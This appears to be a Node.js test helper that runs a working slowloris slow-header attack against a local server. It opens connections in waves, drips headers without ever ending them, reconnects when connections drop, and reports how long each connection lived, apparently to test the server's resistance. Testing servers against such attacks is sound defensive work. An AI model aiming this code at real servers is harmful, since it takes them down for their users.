// A slow-header ("slowloris") attacker, run by abuse.test.ts in its own process so that its work does not slow the
// prober down. It opens `count` connections from `localAddress` in waves, each sending a request line and a header
// and then one more header every `dripMs`, never the blank line that ends the headers; while the attack lasts, every
// connection that closes is opened again `reconnectMs` later. It prints `{"ready":true}` once the first `count`
// are under way, stops reconnecting on a `stop` line on stdin, waits (up to `drainMs`) for its connections to close,
// then prints one JSON line describing each connection of the first wave and a summary of the rest.
//
// Usage: node slow-header-attacker.mjs <port> <localAddress> <count> <dripMs> <reconnectMs> <drainMs>
import { connect } from 'node:net';
import { createInterface } from 'node:readline';

const [port, localAddress, count, dripMs, reconnectMs, drainMs] = process.argv.slice(2);
const WAVE = 250;

/** @type {{ openedAt: number, connectedAt?: number, closedAt?: number, received: string }[]} */
const connections = [];
let attacking = true;
let open = 0;

function attack() {
  const connection = { openedAt: performance.now(), received: '' };
  connections.push(connection);
  open++;
  const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress });
  let drip;
  socket.setEncoding('latin1');
  socket.on('connect', () => {
    connection.connectedAt = performance.now();
    socket.write('GET /healthz HTTP/1.1\r\nHost: x\r\n');
    let n = 0;
    drip = setInterval(() => socket.write(`X-Drip-${n++}: a\r\n`), Number(dripMs));
  });
  socket.on('data', (chunk) => (connection.received += chunk));
  socket.on('error', () => {});
  socket.once('close', () => {
    connection.closedAt = performance.now();
    clearInterval(drip);
    open--;
    if (attacking) setTimeout(() => attacking && attack(), Number(reconnectMs));
  });
}

for (let sent = 0; sent < Number(count); sent += WAVE) {
  for (let i = sent; i < Math.min(sent + WAVE, Number(count)); i++) attack();
  await new Promise((resolve) => setTimeout(resolve, 25));
}
console.log(JSON.stringify({ ready: true }));

for await (const line of createInterface({ input: process.stdin })) if (line === 'stop') break;
attacking = false;
const stoppedAt = performance.now();
while (open > 0 && performance.now() - stoppedAt < Number(drainMs)) await new Promise((resolve) => setTimeout(resolve, 20));

const first = connections.slice(0, Number(count)).map((c) => ({
  connectMs: c.connectedAt === undefined ? null : c.connectedAt - c.openedAt,
  lifeMs: c.closedAt === undefined ? null : c.closedAt - (c.connectedAt ?? c.openedAt),
  status: /^HTTP\/1\.1 (\d{3})/.exec(c.received)?.[1] ?? null,
}));
const longestLifeMs = connections.reduce(
  (longest, c) => (c.closedAt === undefined ? longest : Math.max(longest, c.closedAt - (c.connectedAt ?? c.openedAt))),
  0,
);
const report = JSON.stringify({
  first,
  total: connections.length,
  stillOpen: open,
  longestLifeMs,
  drainedMs: performance.now() - stoppedAt,
});
// Exit only once the report is written: a large one does not fit in the pipe at once.
process.stdout.write(`${report}\n`, () => process.exit(0));
